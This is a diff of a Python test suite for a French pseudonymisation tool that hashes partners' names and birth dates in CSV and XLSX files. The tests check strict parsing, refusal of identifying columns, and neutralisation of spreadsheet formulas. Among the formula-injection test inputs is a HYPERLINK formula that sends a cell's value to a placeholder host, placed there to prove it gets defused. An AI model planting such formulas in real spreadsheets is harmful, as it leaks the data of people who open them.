@@ -1,16 +1,26 @@
-"""`pipase hash`, the partners' kit: round trips, order, reasons, keyed variant, no identity out."""
+"""`pipase hash`, the partners' kit: what partners do to it, and what it must never do.
+
+Round trips (CSV cp1252 and UTF-8, XLSX), order, reasons, keyed variant; then every failure
+that testers found, planted: rows swallowed by a quote, identifying columns kept, formulas,
+a legitimate mois_naissance refused, friction (separator, XLSX dates, no header, output = input,
+empty, extra field, unclosed quote, missing folder, fake XLSX). Each protection has a mutation
+test that removes it and sees the check fail. No message may show a value of the file.
+"""
 
 from __future__ import annotations
 
 import csv
-from datetime import date
+import os
+import zipfile
+from datetime import date, datetime
 from pathlib import Path
 
 import openpyxl
 import pytest
 
-from pipase import protocol
+from pipase import hashkit, identifiers, protocol
 from pipase.cli import main
+from pipase.kit import hashing, reader, verify, writer
 
 ROWS = [
     # nom; nom de naissance; prénom; né le; commune; remarque
@@ -23,21 +33,36 @@ ROWS = [
     ["Ben Salah", "", "Mohamed Amine", "15/06/2003", "Bobigny; centre", "g"],
 ]
 HEADER = ["Nom", "Nom de naissance", "Prénom", "Né le", "Commune", "Remarque"]
+IDENTITY_ARGS = [
+    "--nom", "Nom", "--nom-naissance", "Nom de naissance", "--prenom", "Prénom",
+    "--date-naissance", "Né le", "--format-date", "%d/%m/%Y",
+]  # fmt: skip
+# Values that must never appear in a message or in an output file.
+SECRETS = [v for row in ROWS for v in row[:4] if len(v) > 3]
 
 
-def write_cp1252(path: Path) -> None:
-    with path.open("w", encoding="cp1252", newline="") as handle:
-        writer = csv.writer(handle, delimiter=";")
-        writer.writerow(HEADER)
-        writer.writerows(ROWS)
+@pytest.fixture(autouse=True)
+def french(monkeypatch):
+    monkeypatch.setenv("PIPASE_LANG", "fr")
+    monkeypatch.delenv("PIPASE_HASH_KEY", raising=False)
 
 
-def hash_args(src: Path, out: Path, *extra: str) -> list[str]:
-    return [
-        "hash", str(src), "-o", str(out), "--nom", "Nom", "--nom-naissance", "Nom de naissance",
-        "--prenom", "Prénom", "--date-naissance", "Né le", "--format-date", "%d/%m/%Y",
-        "--encoding", "cp1252", *extra,
-    ]  # fmt: skip
+def write_csv(path: Path, header=HEADER, rows=ROWS, encoding="cp1252", sep=";") -> Path:
+    with path.open("w", encoding=encoding, newline="") as handle:
+        writer_ = csv.writer(handle, delimiter=sep)
+        writer_.writerow(header)
+        writer_.writerows(rows)
+    return path
+
+
+def hash_args(src: Path, out: Path, *extra: str, encoding: str | None = "cp1252") -> list[str]:
+    args = ["hash", str(src), "-o", str(out), *IDENTITY_ARGS, *extra]
+    return args + (["--encoding", encoding] if encoding else [])
+
+
+def read_output(path: Path, encoding="cp1252", sep=";") -> list[list[str]]:
+    with path.open(encoding=encoding, newline="") as handle:
+        return list(csv.reader(handle, delimiter=sep))
 
 
 def expected_keys(row: list[str], key: bytes | None = None) -> tuple[str, str]:
@@ -54,17 +79,22 @@ def expected_keys(row: list[str], key: bytes | None = None) -> tuple[str, str]:
     return primary or "", secondary or ""
 
 
+def assert_no_value_shown(text: str, values=SECRETS) -> None:
+    for value in values:
+        assert value not in text, "a value of the file was printed"
+
+
+# --------------------------------------------------------------------------- round trips
 def test_round_trip_semicolon_cp1252(tmp_path, capsys):
     src, out = tmp_path / "partenaire.csv", tmp_path / "partenaire_hache.csv"
-    write_cp1252(src)
+    write_csv(src)
     assert main(hash_args(src, out, "--mois-naissance")) == 0
     printed = capsys.readouterr()
-    raw = out.read_bytes()
-    text = raw.decode("cp1252")  # still cp1252, strictly decodable
-    with out.open(encoding="cp1252", newline="") as handle:
-        result = list(csv.reader(handle, delimiter=";"))
+    text = out.read_bytes().decode("cp1252")  # still cp1252, strictly decodable
+    result = read_output(out)
     assert result[0] == [
-        "cle_hachage", "cle_hachage_secondaire", "motif_sans_cle", "mois_naissance", "Commune", "Remarque",
+        "cle_hachage", "cle_hachage_secondaire", "motif_sans_cle", "mois_naissance", "Commune",
+        "Remarque",
     ]  # fmt: skip
     body = result[1:]
     assert len(body) == len(ROWS)
@@ -76,77 +106,462 @@ def test_round_trip_semicolon_cp1252(tmp_path, capsys):
     ]  # fmt: skip
     assert body[1][3] == "2003-12" and body[4][3] == ""
     assert body[3][1] != "" and body[3][0] == ""  # no first name: secondary key only
-    # no identity in the output file nor on the console
-    for row in ROWS:
-        for value in (row[0], row[1], row[2], row[3]):
-            if len(value) > 2:
-                assert value not in text
-                assert value not in printed.out + printed.err
-    assert "7 rows hashed" in printed.out
+    assert_no_value_shown(text)
+    assert_no_value_shown(printed.out + printed.err)
+    assert "lignes lues : 7 ; lignes écrites : 7" in printed.out
+    assert "séparateur « ; » (détecté)" in printed.out
 
 
 def test_birth_name_is_used_when_present(tmp_path):
-    src, out = tmp_path / "p.csv", tmp_path / "o.csv"
-    write_cp1252(src)
-    main(hash_args(src, out))
+    src, out = write_csv(tmp_path / "p.csv"), tmp_path / "o.csv"
+    assert main(hash_args(src, out)) == 0
     with out.open(encoding="cp1252", newline="") as handle:
         second = list(csv.DictReader(handle, delimiter=";"))[1]
     assert second["cle_hachage"] == protocol.primary_key("LHOPITAL", "ELOISE", date(2003, 12, 31))
 
 
 def test_keyed_needs_the_secret(tmp_path, monkeypatch, capsys):
-    src, out = tmp_path / "p.csv", tmp_path / "o.csv"
-    write_cp1252(src)
-    monkeypatch.delenv("PIPASE_HASH_KEY", raising=False)
-    assert main(hash_args(src, out, "--keyed")) == 2
+    src, out = write_csv(tmp_path / "p.csv"), tmp_path / "o.csv"
+    assert main(hash_args(src, out, "--keyed")) == 1
     assert "PIPASE_HASH_KEY" in capsys.readouterr().err
     assert not out.exists()
     monkeypatch.setenv("PIPASE_HASH_KEY", "pipase-test-key-not-secret")
     assert main(hash_args(src, out, "--keyed")) == 0
-    with out.open(encoding="cp1252", newline="") as handle:
-        first = next(csv.DictReader(handle, delimiter=";"))
-    assert first["cle_hachage"] == expected_keys(ROWS[0], b"pipase-test-key-not-secret")[0]
-    assert first["cle_hachage"] != expected_keys(ROWS[0])[0]
+    assert "HMAC-SHA-256" in capsys.readouterr().out
+    first = read_output(out)[1]
+    assert first[0] == expected_keys(ROWS[0], b"pipase-test-key-not-secret")[0]
+    assert first[0] != expected_keys(ROWS[0])[0]
+
+
+def write_xlsx(path: Path, header=HEADER, rows=ROWS) -> Path:
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append(header)
+    for row in rows:
+        sheet.append(row)
+    book.save(path)
+    return path
 
 
 def test_xlsx_in_and_out(tmp_path):
-    src, out = tmp_path / "p.xlsx", tmp_path / "o.xlsx"
-    book = openpyxl.Workbook()
-    sheet = book.active
-    sheet.append(HEADER)
-    for row in ROWS:
-        sheet.append(row)
-    book.save(src)
-    args = hash_args(src, out)
-    args.remove("--encoding")
-    args.remove("cp1252")
-    assert main(args) == 0
+    src, out = write_xlsx(tmp_path / "p.xlsx"), tmp_path / "o.xlsx"
+    assert main(hash_args(src, out, encoding=None)) == 0
     rows = list(openpyxl.load_workbook(out).active.iter_rows(values_only=True))
     assert len(rows) == len(ROWS) + 1
-    assert rows[1][0] == expected_keys(ROWS[0])[0]
+    assert [r[0] or "" for r in rows[1:]] == [expected_keys(r)[0] for r in ROWS]
 
 
-def test_missing_column_is_named(tmp_path, capsys):
+def test_utf8_with_byte_order_mark_and_crlf(tmp_path, capsys):
+    src, out = tmp_path / "bom.csv", tmp_path / "o.csv"
+    write_csv(src, encoding="utf-8-sig")
+    assert main(hash_args(src, out, encoding=None)) == 0
+    assert "utf-8 (BOM)" in capsys.readouterr().out
+    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads it back as UTF-8
+    assert [r[0] for r in read_output(out, "utf-8-sig")[1:]] == [expected_keys(r)[0] for r in ROWS]
+
+
+# --------------------------------------------------------------------------- strict reading
+def sixty_rows_with_a_runaway_quote(path: Path) -> Path:
+    """60 rows; a value opens a quote on row 10 and closes it on row 15 (the testers' file)."""
+    lines = ["NOM;PRENOM;DDN;commentaire"]
+    for i in range(60):
+        note = {9: '"rappeler', 14: 'demain"'}.get(i, "ras")
+        lines.append(f"Dupont{i};Marie;{10 + i % 18}/03/1999;{note}")
+    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    return path
+
+
+SIMPLE_ARGS = [
+    "--nom", "NOM", "--prenom", "PRENOM", "--date-naissance", "DDN", "--format-date", "%d/%m/%Y",
+]  # fmt: skip
+
+
+def test_a_runaway_quote_stops_the_run_at_its_line(tmp_path, capsys):
+    src, out = sixty_rows_with_a_runaway_quote(tmp_path / "p.csv"), tmp_path / "o.csv"
+    assert main(["hash", str(src), "-o", str(out), *SIMPLE_ARGS]) == 1
+    err = capsys.readouterr().err
+    assert "ligne 11" in err and "unbalanced_quote" in err
+    assert "guillemet" in err
+    assert not out.exists() and not list(tmp_path.glob(".o.csv.*"))  # nothing written
+    assert "Dupont9" not in err
+
+
+def test_mutation_a_lenient_csv_reader_swallows_the_rows(tmp_path):
+    """What the kit did before: the csv module reads across lines, 60 rows in, 55 out."""
+    src = sixty_rows_with_a_runaway_quote(tmp_path / "p.csv")
+    with src.open(encoding="utf-8", newline="") as handle:
+        lenient = list(csv.reader(handle, delimiter=";"))[1:]
+    assert len(lenient) == 55  # the check above (one row per line, or an error) is needed
+
+
+@pytest.mark.parametrize(
+    ("content", "rule", "line"),
+    [
+        (b"NOM;PRENOM;DDN;x\nDupont;Marie;17/03/1999;a;b\n", "field_count", 2),
+        (b"NOM;PRENOM;DDN;x\nDupont;Marie;17/03/1999;a\nMartin;Jean", "field_count", 3),
+        (b'NOM;PRENOM;DDN;x\nDupont;Marie;17/03/1999;"a\n', "unbalanced_quote", 2),
+        (b'NOM;PRENOM;DDN;x\nDupont;Marie;17/03/1999;"a"b\n', "malformed_quote", 2),
+        (b"NOM;PRENOM;DDN;x\nDupont;Marie;17/03/1999;\xe9\n", "encoding", 2),
+        (b"", "empty_file", None),
+        (b"\n\n", "empty_file", None),
+        (b"\nNOM;PRENOM;DDN\n", "no_header", 1),
+        (b"NOM PRENOM DDN\nDupont Marie 17/03/1999\n", "separator", 1),
+        (b"\xff\xfeN\x00O\x00M\x00", "encoding", None),
+        (b"PK\x03\x04rest", "not_csv", None),
+    ],
+    ids=[
+        "extra-field", "truncated-last-line", "unclosed-quote-at-end", "malformed-quote",
+        "bad-byte", "empty", "blank-only", "blank-first-line", "no-separator", "utf16", "zip",
+    ],
+)  # fmt: skip
+def test_unreadable_files_give_one_clear_line(tmp_path, capsys, content, rule, line):
     src, out = tmp_path / "p.csv", tmp_path / "o.csv"
-    write_cp1252(src)
+    src.write_bytes(content)
+    assert main(["hash", str(src), "-o", str(out), *SIMPLE_ARGS]) == 1
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and "Traceback" not in err
+    assert f"[{rule}]" in err
+    if line is not None:
+        assert f"ligne {line}" in err
+    assert "Dupont" not in err and "Marie" not in err and "17/03/1999" not in err
+    assert not out.exists()
+
+
+def test_cr_only_and_mixed_line_ends_give_every_row(tmp_path, capsys):
+    src, out = tmp_path / "p.csv", tmp_path / "o.csv"
+    src.write_bytes(
+        b"NOM;PRENOM;DDN;x\rDupont;Marie;17/03/1999;a\r\nMartin;Jean;18/03/1999;b\n"
+        b"Durand;Paul;19/03/1999;c\r\rBernard;Lea;20/03/1999;d"
+    )
+    assert main(["hash", str(src), "-o", str(out), *SIMPLE_ARGS]) == 0
+    printed = capsys.readouterr().out
+    assert "lignes lues : 4 ; lignes écrites : 4" in printed
+    assert "lignes vides (sans données, pas des lignes du fichier) : 1" in printed
+    body = read_output(out, "utf-8")[1:]
+    assert [r[3] for r in body] == ["a", "b", "c", "d"]
+    assert body[3][0] == protocol.primary_key("Bernard", "Lea", date(1999, 3, 20))
+
+
+def test_line_ends_split_across_blocks(tmp_path, monkeypatch):
+    """Blocks cut anywhere (a CRLF across two reads, a CR-only file): same rows."""
+    monkeypatch.setattr(reader, "BLOCK_BYTES", 7)
+    lines = ["NOM;PRENOM;DDN;x"] + [f"N{i};P{i};{1 + i % 28:02d}/03/1999;v{i}" for i in range(50)]
+    for end in ("\r\n", "\r", "\n"):
+        src = tmp_path / f"p{len(end)}{end == chr(13)}.csv"
+        src.write_bytes(end.join(lines).encode())
+        source = reader.open_source(src)
+        rows = [v for batch in source.batches() for v in batch.columns[3]]
+        assert rows == [f"v{i}" for i in range(50)], repr(end)
+        assert source.blank_lines == 0
+
+
+def test_comma_file_is_read_without_sep_and_sep_forces(tmp_path, capsys):
+    src, out = tmp_path / "p.csv", tmp_path / "o.csv"
+    write_csv(src, sep=",")
+    assert main(hash_args(src, out)) == 0
+    printed = capsys.readouterr().out
+    assert "séparateur « , » (détecté)" in printed
+    assert read_output(out, sep=",")[2][0] == expected_keys(ROWS[1])[0]
+    # the output keeps the input's separator; --sep forces (a wrong one is a clear error)
+    assert main(hash_args(src, out, "--sep", ";")) == 1
+    err = capsys.readouterr().err
+    assert "missing_column" in err and "--sep" in err
+    assert main(hash_args(src, out, "--sep", ",")) == 0
+    assert "(donné par --sep)" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("sep", [",", "\t", "|"])
+def test_every_usual_separator_is_detected(tmp_path, sep):
+    src, out = tmp_path / "p.csv", tmp_path / "o.csv"
+    write_csv(src, sep=sep)
+    assert main(hash_args(src, out)) == 0
+    assert read_output(out, sep=sep)[1][0] == expected_keys(ROWS[0])[0]
+
+
+def test_xlsx_date_cells_are_dates_whatever_the_format_says(tmp_path, capsys):
+    rows = [[r[0], r[1], r[2], r[3], r[4], r[5]] for r in ROWS]
+    rows[0][3] = datetime(2004, 11, 30)  # a real date cell
+    rows[1][3] = date(2003, 12, 31)
+    rows[3][3] = "14/07/1999"  # a text date: read with --format-date
+    src, out = write_xlsx(tmp_path / "p.xlsx", rows=rows), tmp_path / "o.csv"
+    assert main(hash_args(src, out, encoding=None)) == 0
+    body = read_output(out, "utf-8")[1:]
+    assert body[0][0] == expected_keys(ROWS[0])[0] != ""
+    assert body[1][0] == expected_keys(ROWS[1])[0] != ""
+    assert body[3][1] == expected_keys(ROWS[3])[1] != ""
+    assert "date_naissance_invalide : 1" in capsys.readouterr().out  # only the 31/02
+
+
+def test_a_file_without_header_never_prints_its_first_row(tmp_path, capsys):
+    src, out = tmp_path / "p.csv", tmp_path / "o.csv"
+    write_csv(src, header=ROWS[0], rows=ROWS[1:])
+    assert main(hash_args(src, out)) == 1
+    err = capsys.readouterr().err
+    assert "missing_column" in err and "en-tête" in err
+    assert_no_value_shown(err)
+    assert "Cœurderoy" not in err and "Anaïs" not in err and "30/11/2004" not in err
+
+
+@pytest.mark.parametrize("how", ["same", "symlink", "relative"])
+def test_the_output_may_not_be_the_input(tmp_path, capsys, monkeypatch, how):
+    src = write_csv(tmp_path / "p.csv")
+    before = src.read_bytes()
+    target = {"same": src, "symlink": tmp_path / "lien.csv", "relative": Path("p.csv")}[how]
+    if how == "symlink":
+        target.symlink_to(src)
+    monkeypatch.chdir(tmp_path)
+    assert main(hash_args(src, target)) == 1
+    assert "output_is_input" in capsys.readouterr().err
+    assert src.read_bytes() == before
+
+
+def test_mutation_without_the_path_check_the_input_is_overwritten(tmp_path, monkeypatch):
+    src = write_csv(tmp_path / "p.csv")
+    before = src.read_bytes()
+    monkeypatch.setattr(hashing, "_check_paths", lambda options: None)
+    assert main(hash_args(src, src)) == 0
+    assert src.read_bytes() != before  # what the check above prevents
+
+
+def test_missing_output_folder_and_fake_xlsx(tmp_path, capsys):
+    src = write_csv(tmp_path / "p.csv")
+    assert main(hash_args(src, tmp_path / "absent" / "o.csv")) == 1
+    assert "[output]" in capsys.readouterr().err
+    fake = tmp_path / "fake.xlsx"
+    fake.write_text("Nom;Prénom\n", encoding="utf-8")
+    assert main(hash_args(fake, tmp_path / "o.csv", encoding=None)) == 1
+    err = capsys.readouterr().err
+    assert "[not_xlsx]" in err and "Traceback" not in err
+
+
+def test_missing_column_is_named_and_wrong_encoding_is_clear(tmp_path, capsys):
+    src, out = write_csv(tmp_path / "p.csv"), tmp_path / "o.csv"
     args = hash_args(src, out)
-    args[args.index("Prénom")] = "Prenom"
-    assert main(args) == 2
-    assert "Prenom" in capsys.readouterr().err
+    args[args.index("Prénom")] = "Prenom_absent"
+    assert main(args) == 1
+    assert "Prenom_absent" in capsys.readouterr().err
+    args = hash_args(src, out, encoding="utf-8")
+    assert main(args) == 1
+    err = capsys.readouterr().err
+    assert "[encoding]" in err and "--encoding" in err and "ligne 1" in err  # "Prénom"
 
 
-def test_wrong_encoding_is_a_clear_error(tmp_path, capsys):
-    src, out = tmp_path / "p.csv", tmp_path / "o.csv"
-    write_cp1252(src)
-    args = hash_args(src, out)
-    args[args.index("cp1252")] = "utf-8"
-    assert main(args) == 2
-    assert "not readable as utf-8" in capsys.readouterr().err
+def test_drop_more_columns(tmp_path):
+    src, out = write_csv(tmp_path / "p.csv"), tmp_path / "o.csv"
+    assert main(hash_args(src, out, "--drop", "Remarque")) == 0
+    assert "Remarque" not in read_output(out)[0]
 
 
-@pytest.mark.parametrize("extra", [["--drop", "Remarque"]])
-def test_drop_more_columns(tmp_path, extra):
-    src, out = tmp_path / "p.csv", tmp_path / "o.csv"
-    write_cp1252(src)
-    assert main(hash_args(src, out, *extra)) == 0
-    assert "Remarque" not in out.read_text(encoding="cp1252").splitlines()[0]
+# --------------------------------------------------------------------------- identifying columns
+def identity_file(tmp_path: Path, extra_header: list[str], extra: list[list[str]]) -> Path:
+    rows = [row + values for row, values in zip(ROWS, extra, strict=True)]
+    return write_csv(tmp_path / "p.csv", header=HEADER + extra_header, rows=rows)
+
+
+def copies(column: int) -> list[list[str]]:
+    return [[row[column]] for row in ROWS]
+
+
+@pytest.mark.parametrize(
+    ("header", "values", "rule"),
+    [
+        ("Nom", copies(0), "nom de colonne"),  # a second NOM column, read as Nom.1
+        ("Nom complet", [[f"{r[0]} {r[2]}"] for r in ROWS], "nom de colonne"),
+        ("Date de naissance", copies(3), "nom de colonne"),
+        ("beneficiaire", [[f"{r[2]} {r[0]}"] for r in ROWS], "noms ou prénoms"),
+        ("code_bis", [["17031999"]] * 7, "dates écrites JJMMAAAA"),
+        ("evenement", [["17 mars 1999"]] + [["emploi"]] * 6, "dates complètes"),
+        ("contact", [["someone@example.org"]] + [[""]] * 6, "adresses électroniques"),
+    ],
+    ids=["second-nom", "nom-complet", "date-de-naissance", "names", "jjmmaaaa", "mars", "mail"],
+)
+def test_identifying_columns_are_refused_unless_dropped_or_declared(
+    tmp_path, capsys, header, values, rule
+):
+    src, out = identity_file(tmp_path, [header], values), tmp_path / "o.csv"
+    assert main(hash_args(src, out)) == 1
+    err = capsys.readouterr().err
+    assert "[identifying_column]" in err and rule in err
+    shown = "Nom.1" if header == "Nom" else header
+    assert shown in err and "--drop" in err and "--garder" in err
+    assert not out.exists()
+    assert_no_value_shown(err, SECRETS + ["17031999", "17 mars 1999", "someone@example.org"])
+    # --drop removes it; --garder keeps it and says so in the summary
+    assert main(hash_args(src, out, "--drop", shown)) == 0
+    assert shown not in read_output(out)[0]
+    assert main(hash_args(src, out, "--garder", shown)) == 0
+    printed = capsys.readouterr().out
+    assert f"(--garder) : {shown}" in printed
+    assert shown in read_output(out)[0]
+
+
+def test_mutation_without_the_content_check_identities_reach_the_output(tmp_path, monkeypatch):
+    src = identity_file(tmp_path, ["beneficiaire"], [[f"{r[2]} {r[0]}"] for r in ROWS])
+    out = tmp_path / "o.csv"
+    monkeypatch.setattr(identifiers.ContentDetector, "findings", lambda self: [])
+    assert main(hash_args(src, out)) == 0
+    assert "Anaïs Cœurderoy" in out.read_text(encoding="cp1252")  # what the check prevents
+
+
+def test_mutation_without_the_name_check_a_second_nom_column_is_written(tmp_path, monkeypatch):
+    src, out = identity_file(tmp_path, ["Nom"], copies(0)), tmp_path / "o.csv"
+    monkeypatch.setattr(identifiers, "name_findings", lambda columns: [])
+    monkeypatch.setattr(identifiers.ContentDetector, "findings", lambda self: [])
+    assert main(hash_args(src, out)) == 0
+    assert "Cœurderoy" in out.read_text(encoding="cp1252")
+
+
+def test_the_garder_option_cannot_keep_an_identity_column(tmp_path, capsys):
+    src, out = write_csv(tmp_path / "p.csv"), tmp_path / "o.csv"
+    assert main(hash_args(src, out, "--garder", "Prénom")) == 1
+    assert "garder_identity" in capsys.readouterr().err
+
+
+def test_ordinary_partner_columns_pass(tmp_path):
+    """What a mission locale sends: labels, codes, communes, months, amounts, ids."""
+    extra = [
+        ["Garantie jeunes", "2023-05", "Saint-Denis", "-12,5", "A123456", "Lycée Jean Jaurès"],
+        ["CEJ", "2023-06", "Montreuil", "0", "A123457", "Collège Louise Michel"],
+        ["PACEA", "2022-11", "Les Lilas", "350", "A123458", "Mission locale de Bondy"],
+        ["CEJ", "2024-01", "Bobigny", "12", "A123459", "Lycée Paul Éluard"],
+        ["emploi", "", "Pantin", "", "A123460", "France Travail Pantin"],
+        ["formation", "2021-09", "Aubervilliers", "1", "A123461", "Lycée Jean Moulin"],
+        ["sans solution", "2023-01", "Drancy", "2", "A123462", "Mission locale Drancy"],
+    ]
+    header = ["dispositif", "mois_entree", "commune_residence", "montant", "id_jeune", "etab"]
+    src, out = identity_file(tmp_path, header, extra), tmp_path / "o.csv"
+    assert main(hash_args(src, out)) == 0
+    assert read_output(out)[0][-6:] == header
+
+
+# --------------------------------------------------------------------------- safe output
+FORMULAS = ['=HYPERLINK("http://exemple.invalid/?"&B2,"voir")', "+1+1", "-1+1", "@SUM(A1)",
+            "\tx", "=1+1"]  # fmt: skip
+
+
+def formula_file(tmp_path: Path) -> Path:
+    extra = [[f] for f in FORMULAS] + [["-12"]]
+    return identity_file(tmp_path, ["lien"], extra)
+
+
+def raw_formulas_in_csv(path: Path) -> int:
+    return sum(
+        1 for row in read_output(path)[1:] for v in row if v and v[0] in "=+-@\t" and v != "-12"
+    )
+
+
+def xlsx_formula_cells(path: Path) -> int:
+    with zipfile.ZipFile(path) as book:
+        xml = book.read("xl/worksheets/sheet1.xml").decode()
+    return xml.count("<f>") + xml.count("<f ")
+
+
+def test_formulas_are_written_as_text_in_csv(tmp_path):
+    src, out = formula_file(tmp_path), tmp_path / "o.csv"
+    assert main(hash_args(src, out)) == 0
+    written = [row[-1] for row in read_output(out)[1:]]
+    assert written == ["'" + f for f in FORMULAS] + ["-12"]  # a plain number stays a number
+    assert raw_formulas_in_csv(out) == 0
+
+
+def test_mutation_without_neutralising_formulas_reach_the_csv(tmp_path, monkeypatch):
+    src, out = formula_file(tmp_path), tmp_path / "o.csv"
+    monkeypatch.setattr(hashing, "neutralise_column", lambda values: values)
+    assert main(hash_args(src, out)) == 0
+    assert raw_formulas_in_csv(out) == len(FORMULAS)
+
+
+def test_formulas_are_text_cells_in_xlsx(tmp_path):
+    src, out = formula_file(tmp_path), tmp_path / "o.xlsx"
+    assert main(hash_args(src, out)) == 0
+    assert xlsx_formula_cells(out) == 0
+    sheet = openpyxl.load_workbook(out).active
+    cells = [row[-1] for row in sheet.iter_rows(min_row=2)]
+    assert [c.value for c in cells[:-1]] == FORMULAS
+    assert {c.data_type for c in cells} == {"s"}
+
+
+def test_mutation_untyped_xlsx_cells_become_formulas(tmp_path, monkeypatch):
+    src, out = formula_file(tmp_path), tmp_path / "o.xlsx"
+    monkeypatch.setattr(writer.XlsxWriter, "_text_cell", lambda self, value: value)
+    assert main(hash_args(src, out)) == 0
+    assert xlsx_formula_cells(out) >= 2  # openpyxl writes "=..." as a live formula
+
+
+def test_an_existing_mois_naissance_is_kept_unless_replaced(tmp_path, capsys):
+    src = identity_file(tmp_path, ["mois_naissance"], [["2004-11"]] * 7)
+    out = tmp_path / "o.csv"
+    assert main(hash_args(src, out)) == 0  # refused before: "already has a column"
+    result = read_output(out)
+    assert result[0][-1] == "mois_naissance" and {r[-1] for r in result[1:]} == {"2004-11"}
+    assert main(hash_args(src, out, "--mois-naissance")) == 0
+    assert "mois_naissance de l'entrée est remplacée" in capsys.readouterr().out
+    result = read_output(out)
+    assert result[0].count("mois_naissance") == 1 and result[0][3] == "mois_naissance"
+    assert [r[3] for r in result[1:]][:2] == ["2004-11", "2003-12"]
+
+
+def test_an_already_hashed_file_is_refused(tmp_path, capsys):
+    src = identity_file(tmp_path, ["cle_hachage"], [["x"]] * 7)
+    assert main(hash_args(src, tmp_path / "o.csv")) == 1
+    assert "already_hashed" in capsys.readouterr().err
+
+
+# --------------------------------------------------------------------------- French, --verifier
+def test_help_and_messages_are_french(capsys):
+    with pytest.raises(SystemExit):
+        main(["hash", "--help"])
+    text = capsys.readouterr().out
+    for french in ("Kit des partenaires", "colonne du prénom", "séparateur", "--garder"):
+        assert french in text
+    with pytest.raises(SystemExit) as usage:
+        main(["hash", "x.csv"])
+    assert usage.value.code == 2
+    assert "arguments sont obligatoires" in capsys.readouterr().err
+
+
+def test_verifier_runs_the_published_vectors(capsys):
+    assert main(["hash", "--verifier"]) == 0
+    out = capsys.readouterr().out
+    assert out.startswith("OK") and "13 vecteurs" in out
+
+
+def test_mutation_verifier_shows_the_first_difference(tmp_path, monkeypatch, capsys):
+    vectors = (verify.VECTORS_FILE).read_text(encoding="utf-8").splitlines()
+    first = vectors[3].split(",")
+    first[5] = "0" * 64  # cle_primaire of the third vector
+    vectors[3] = ",".join(first)
+    planted = tmp_path / "vectors.csv"
+    planted.write_text("\n".join(vectors) + "\n", encoding="utf-8")
+    monkeypatch.setattr(verify, "VECTORS_FILE", planted)
+    assert main(["hash", "--verifier"]) == 1
+    err = capsys.readouterr().err
+    assert "DIFFÉRENCE" in err and "ligne 4" in err and "cle_primaire" in err
+
+
+def test_library_call_with_a_namespace(tmp_path):
+    """`hashkit.hash_file(args)` still takes the command line's namespace (transmission tests)."""
+    import argparse
+
+    src, out = write_csv(tmp_path / "p.csv", encoding="utf-8"), tmp_path / "o.csv"
+    args = argparse.Namespace(
+        input=src, output=out, nom="Nom", nom_naissance="Nom de naissance", prenom="Prénom",
+        date_naissance="Né le", format_date=["%d/%m/%Y"], sep=";", encoding="utf-8",
+        sheet=None, mois_naissance=True, drop=[], keyed=False,
+    )  # fmt: skip
+    report = hashkit.hash_file(args)
+    assert (report.rows_in, report.rows_out) == (7, 7)
+    assert os.path.getsize(out) > 0
+
+
+def test_a_full_disk_is_a_clear_error_and_leaves_nothing(tmp_path, monkeypatch, capsys):
+    src, out = write_csv(tmp_path / "p.csv"), tmp_path / "o.csv"
+
+    def full_disk(self, columns, lines, plain):
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(writer.CsvWriter, "write", full_disk)
+    assert main(hash_args(src, out)) == 1
+    err = capsys.readouterr().err
+    assert "[io]" in err and "No space left on device" in err and "Traceback" not in err
+    assert not out.exists() and not list(tmp_path.glob(".o.csv.*"))
